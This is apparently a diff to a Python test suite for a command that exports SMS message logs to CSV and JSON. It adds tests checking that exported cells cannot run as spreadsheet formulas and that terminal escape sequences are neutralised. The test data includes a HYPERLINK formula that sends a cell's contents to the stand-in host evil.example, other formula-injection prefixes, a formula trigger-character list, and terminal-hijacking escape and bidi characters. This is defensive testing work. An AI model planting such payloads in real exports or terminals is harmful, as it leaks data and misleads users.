@@ -291,7 +291,7 @@ def test_one_clients_texts_export_as_csv_oldest_first(runner, texts):
         "sid": "SM2",
         "created_at": "2025-03-04T15:02:00+00:00",
         "client_external_id": "DEMO-1001",
-        "phone": ALEX,
+        "phone": "'" + ALEX,  # a spreadsheet shows +1… as text, not the number 1312…
         "encoding": "GSM-7",
         "segments": "1",
         "message_key": "sms.inbox.ack",
@@ -318,6 +318,29 @@ def test_everyones_texts_export_to_a_file_without_unmatched_numbers(runner, text
     assert rows[0]["body"] == '=HYPERLINK("http://x")'  # only CSV guards against formulas
 
 
+def test_no_csv_column_can_run_as_a_spreadsheet_formula(runner, texts):
+    alex = client_by_id(texts, "DEMO-1001")
+    alex.external_id = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    texts.execute(
+        Message.__table__.update()
+        .where(Message.twilio_sid == "SM2")
+        .values(message_key="@SUM(1)", error_code="-2+3", status="\tdelivered")
+    )
+    texts.commit()
+    result = export(runner, "--client", ALEX)
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert rows[0]["body"] == '\'=HYPERLINK("http://x")'
+    assert rows[0]["client_external_id"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert (rows[1]["message_key"], rows[1]["error_code"], rows[1]["status"]) == (
+        "'@SUM(1)",
+        "'-2+3",
+        "'\tdelivered",
+    )
+    formula = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")
+    assert not [cell for row in rows for cell in row.values() if cell.startswith(formula)]
+
+
 def test_an_unknown_or_malformed_client_phone_is_a_clear_error(runner, texts):
     result = export(runner, "--client", "312-555-0199")
     assert result.exit_code == 1
@@ -336,3 +359,23 @@ def test_every_export_is_audited_without_bodies_or_full_numbers(runner, texts, m
         ("dana.reed@demo.example", "export_messages", "client DEMO-1001 (+*******0142): 2 rows"),
         ("jcarter", "export_messages", "all clients: 3 rows"),
     ]
+
+
+def test_an_export_printed_on_a_terminal_cannot_drive_it(runner, texts, monkeypatch):
+    texts.execute(
+        Message.__table__.update()
+        .where(Message.twilio_sid == "SM2")
+        .values(body="ok\x1b]0;owned\x07\x9b2J\u202eevil")
+    )
+    texts.commit()
+    piped = export(runner, "--client", ALEX, "--format", "json")
+    assert "ok\\u001b]0;owned\\u0007\x9b2J\u202eevil" in piped.stdout  # a pipe gets the data
+    monkeypatch.setattr("botapp.cli.io.on_terminal", lambda: True)
+    expected = {
+        "csv": r"ok\x1b]0;owned\x07\x9b2J\u202eevil",
+        "json": r"ok\u001b]0;owned\u0007\x9b2J\u202eevil",  # JSON escapes C0 itself
+    }
+    for fmt, text in expected.items():
+        shown = export(runner, "--client", ALEX, "--format", fmt).stdout
+        assert text in shown
+        assert not [ch for ch in shown if ch in "\x1b\x07\x9b\u202e\r"]
